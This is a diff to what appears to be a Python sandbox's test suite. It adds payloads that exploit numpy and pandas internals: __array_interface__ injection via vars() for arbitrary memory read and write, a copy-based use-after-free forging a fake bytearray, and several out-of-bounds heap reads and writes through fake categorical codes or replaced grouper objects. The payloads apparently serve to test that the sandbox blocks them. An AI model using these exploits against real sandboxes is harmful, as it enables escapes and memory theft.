@@ -3797,6 +3797,286 @@ PAYLOADS = [
         def main():
             return sm.datasets.get_rdataset("mtcars").data.shape
         """, on={VALIDATOR, SECCOMP}, off={SECCOMP}),
+
+    # vars(obj) of the code's own object handed out the object's real
+    # __dict__: a key that begins with "__" set through it shadows, on the
+    # instance, what libraries look up with getattr: numpy's
+    # __array_interface__ (an array over any address: read and write
+    # anywhere) and copy's __reduce_ex__ (then copy calls
+    # arr.__setstate__(state) on an existing array: its views use freed
+    # memory, refilled by a list: a fake bytearray over all memory)
+    Payload("vars-update-dunder-array-interface", """
+        import numpy as np
+        class Box:
+            pass
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            box = Box()
+            vars(box).update({"_" * 2 + "array_interface" + "_" * 2: {
+                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
+                "version": 3}})
+            return bytes(np.asarray(box)).decode()
+        """, off={OK, CRASH}),
+    Payload("vars-subscript-dunder-array-interface-write", """
+        import numpy as np
+        class Box:
+            pass
+        def main():
+            victim = "immutable string"
+            box = Box()
+            d = vars(box)
+            d["_" * 2 + "array_interface" + "_" * 2] = {
+                "data": (id(victim) + 48, False), "shape": (7,), "typestr": "|u1", "version": 3}
+            np.asarray(box)[:] = np.frombuffer(b"CHANGED", dtype="u1")
+            return victim
+        """, off={OK, CRASH}),
+    Payload("vars-ior-dunder-array-interface", """
+        import numpy as np
+        class Box:
+            pass
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            box = Box()
+            d = vars(box)
+            d |= {"_" * 2 + "array_interface" + "_" * 2: {
+                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
+                "version": 3}}
+            return bytes(np.asarray(box)).decode()
+        """, off={OK, CRASH}),
+    Payload("vars-str-subclass-key-array-interface", """
+        import numpy as np
+        class K(str):
+            pass
+        class Box:
+            pass
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            box = Box()
+            vars(box).update({K("_" * 2 + "array_interface" + "_" * 2): {
+                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
+                "version": 3}})
+            return bytes(np.asarray(box)).decode()
+        """, off={OK, CRASH, EXCEPTION}),
+    Payload("vars-reduce-ex-ndarray-setstate-use-after-free", """
+        import copy
+        import struct
+        import numpy as np
+        class Box:
+            pass
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            a = np.zeros(4096, dtype="u1")
+            v = a[:]
+            state = (1, (1 << 16,), np.dtype("u1"), False, bytes(1 << 16))
+            box = Box()
+            vars(box)["_" * 2 + "reduce_ex" + "_" * 2] = lambda proto: (lambda: a, (), state)
+            copy.copy(box)                   # copy calls a.__setstate__(state): v's memory freed
+            marker = "m"
+            lst = [marker] * 512
+            q = v.view("<u8")
+            hits = [i for i in range(512) if int(q[i]) == id(marker)]
+            if len(hits) < 400:
+                return "list not over the freed buffer"
+            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+            q[0] = id(fake) + 32
+            mem = lst[0]
+            addr = id(secret) + 32
+            out = bytes(mem[addr:addr + len(secret)])
+            q[0] = id(marker)
+            return out.decode()
+        """, off={OK, CRASH, EXCEPTION}),
+    # groupby(key) takes any object whose .dtype is a CategoricalDtype for a
+    # Categorical and, with observed=False, hands its .codes unchecked to
+    # the Cython group loops: out-of-bounds heap writes of the group sums
+    Payload("groupby-duck-categorical-codes-heap-write", """
+        import numpy as np
+        import pandas as pd
+        class FakeCat:
+            def __init__(self, codes):
+                self.dtype = pd.CategoricalDtype(["a", "b"])
+                self.categories = pd.Index(["a", "b"])
+                self.ordered = False
+                self.codes = codes
+                self.ndim = 1
+                self.shape = (len(codes),)
+            def __len__(self):
+                return self.shape[0]
+        def main():
+            df = pd.DataFrame({"v": np.full(4, 1e300)})
+            fake = FakeCat(np.array([0, 1, 3, 40], dtype=np.intp))
+            return repr(df.groupby(fake, observed=False).sum())
+        """, off={OK, CRASH}),
+    Payload("groupby-duck-categorical-codes-far", """
+        import numpy as np
+        import pandas as pd
+        class FakeCat:
+            def __init__(self, codes):
+                self.dtype = pd.CategoricalDtype(["a", "b"])
+                self.categories = pd.Index(["a", "b"])
+                self.ordered = False
+                self.codes = codes
+                self.ndim = 1
+                self.shape = (len(codes),)
+            def __len__(self):
+                return self.shape[0]
+        def main():
+            df = pd.DataFrame({"v": np.arange(4.0)})
+            fake = FakeCat(np.array([0, 1, 1 << 20, 1 << 20], dtype=np.intp))
+            return repr(df.groupby(fake, observed=False).sum())
+        """, off={OK, CRASH}),
+
+
+    # review 15 (2026-12-04): duck-typed categoricals, the codes of pandas' groupby
+    # functions, and public attributes of pandas' groupby/window objects
+    # df.groupby(obj) with an object of the code's whose dtype is a CategoricalDtype: its public .codes become the group labels unchecked (group_sum writes out of bounds)
+    Payload('groupby-duck-categorical-codes', """
+        import pandas as pd
+        import numpy as np
+        class Fake:
+            def __init__(self, far):
+                self.dtype = pd.CategoricalDtype(["a", "b"])
+                self.categories = self.dtype.categories
+                self.ordered = False
+                self.codes = np.array([0, 1, far], dtype=np.intp)
+            def __len__(self):
+                return 3
+            def __iter__(self):
+                return iter(["a", "b", "a"])
+        def main(far=1 << 40):
+            df = pd.DataFrame({"v": [1.0, 2.0, 3.0]})
+            return str(df.groupby(Fake(far)).sum())
+        """, on={GUARD}, off={CRASH}),
+    # the same with cumsum: heap words and pointers come back as numbers
+    Payload('groupby-duck-categorical-cumsum-leak', """
+        import pandas as pd
+        import numpy as np
+        class Fake:
+            def __init__(self, far):
+                self.dtype = pd.CategoricalDtype(["a", "b"])
+                self.categories = self.dtype.categories
+                self.ordered = False
+                self.codes = np.array([0, 1] + list(far), dtype=np.intp)
+            def __len__(self):
+                return len(self.codes)
+            def __iter__(self):
+                return iter(["a"] * len(self.codes))
+        def main():
+            far = list(range(2, 40))
+            df = pd.DataFrame({"v": np.zeros(len(far) + 2, dtype=np.int64)})
+            out = df.groupby(Fake(far)).cumsum()["v"].tolist()
+            return [hex(x) for x in out]
+        """, on={GUARD}, off={OK}),
+    # pd.Categorical(obj) takes obj._codes unchecked (no fastpath); Index.groupby's groupsort_indexer writes out of bounds
+    Payload('categorical-from-duck-codes', """
+        import pandas as pd
+        import numpy as np
+        class Fake:
+            def __init__(self):
+                self.dtype = pd.CategoricalDtype(["a", "b"])
+                self._codes = np.array([0, 1, 120], dtype=np.int64)
+            def __len__(self):
+                return 3
+            def __iter__(self):
+                return iter([])
+        def main():
+            c = pd.Categorical(Fake())
+            print(list(c.codes))
+            return str(pd.Index(["x", "y", "z"]).groupby(c))
+        """, on={GUARD}, off={CRASH}),
+    # c.codes is a read-only view the code can make writeable: a real Categorical with a code past its categories
+    Payload('categorical-codes-writeable-flip', """
+        import pandas as pd
+        import numpy as np
+        def main():
+            c = pd.Categorical(["a", "b", "a"])
+            v = c.codes
+            v.flags.writeable = True
+            v[2] = 120
+            return str(pd.Index(["x", "y", "z"]).groupby(c))
+        """, on={GUARD}, off={CRASH}),
+    # gb.grouper.groupings[0] = an object of the code's: its codes become the labels
+    Payload('groupby-grouping-replaced-cumsum', """
+        import pandas as pd
+        import numpy as np
+        class Ping:
+            def __init__(self, codes, n):
+                self.codes = np.array(codes, dtype=np.intp)
+                self.group_index = pd.Index(range(n))
+                self.result_index = self.group_index
+                self.ngroups = n
+                self.name = None
+        def main(far=1 << 40):
+            df = pd.DataFrame({"k": [1, 2, 1], "v": [1.0, 2.0, 3.0]})
+            gb = df.groupby("k")
+            gb.grouper.groupings[0] = Ping([0, 1, far], 2)
+            return str(gb.cumsum())
+        """, on={GUARD}, off={CRASH}),
+    # the same through gb.indices: groupsort_indexer counts past its array
+    Payload('groupby-grouping-replaced-indices', """
+        import pandas as pd
+        import numpy as np
+        class Ping:
+            def __init__(self, codes, n):
+                self.codes = np.array(codes, dtype=np.intp)
+                self.group_index = pd.Index(range(n))
+                self.result_index = self.group_index
+                self.ngroups = n
+                self.name = None
+        def main():
+            df = pd.DataFrame({"k": [1, 2, 1], "v": [1.0, 2.0, 3.0]})
+            gb = df.groupby("k")
+            gb.grouper.groupings[0] = Ping([0, 1, 1 << 40], 2)
+            return str(gb.indices)
+        """, on={GUARD}, off={CRASH}),
+    # r.grouper.bins set: labels shorter than the values, group_ohlc reads past them
+    Payload('resample-bins-set-ohlc', """
+        import pandas as pd
+        import numpy as np
+        def main(n=200000):
+            s = pd.Series(np.arange(float(n)), index=pd.date_range("2020", periods=n, freq="min"))
+            r = s.resample("2min")
+            r.grouper.bins = np.ones(len(r.grouper.bins), dtype=np.int64)
+            return str(r.ohlc())
+        """, on={GUARD}, off={CRASH}),
+    # type(r.grouper)(bins, labels) passed to groupby
+    Payload('bingrouper-constructed-ohlc', """
+        import pandas as pd
+        import numpy as np
+        def main(n=200000):
+            s = pd.Series(np.arange(float(n)), index=pd.date_range("2020", periods=n, freq="min"))
+            BinGrouper = type(s.resample("2min").grouper)
+            bg = BinGrouper(np.array([1, 1, 1], dtype=np.int64), pd.Index([1, 2, 3]))
+            return str(s.groupby(bg).ohlc())
+        """, on={GUARD}, off={CRASH}),
+    # gb.obj = a longer frame after the grouper was built
+    Payload('groupby-obj-replaced-ohlc', """
+        import pandas as pd
+        import numpy as np
+        def main(n=2000000):
+            gb = pd.DataFrame({"k": [0, 1], "v": [1.0, 2.0]}).groupby("k")
+            gb.obj = pd.DataFrame({"k": np.zeros(n), "v": np.arange(float(n))})
+            return str(gb["v"].ohlc())
+        """, on={GUARD}, off={CRASH}),
+    # an ewm with times=: e.obj = a longer Series, deltas read past their end
+    Payload('ewm-obj-replaced-deltas', """
+        import pandas as pd
+        import numpy as np
+        def main(n=5000000):
+            s = pd.Series([1.0, 2.0, 3.0])
+            e = s.ewm(halflife="1D", times=pd.date_range("2020", periods=3, freq="D"))
+            e.obj = pd.Series(np.ones(n))
+            return str(e.mean().tail(3))
+        """, on={GUARD}, off={CRASH}),
+    # rolling('2D'): r.obj = a longer Series, the index read past its end
+    Payload('rolling-obj-replaced-offset-window', """
+        import pandas as pd
+        import numpy as np
+        def main(n=5000000):
+            s = pd.Series([1.0, 2.0, 3.0], index=pd.date_range("2020", periods=3, freq="D"))
+            r = s.rolling("2D")
+            r.obj = pd.Series(np.arange(float(n)))
+            return str(r.sum().tail(3))
+        """, on={GUARD}, off={CRASH}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
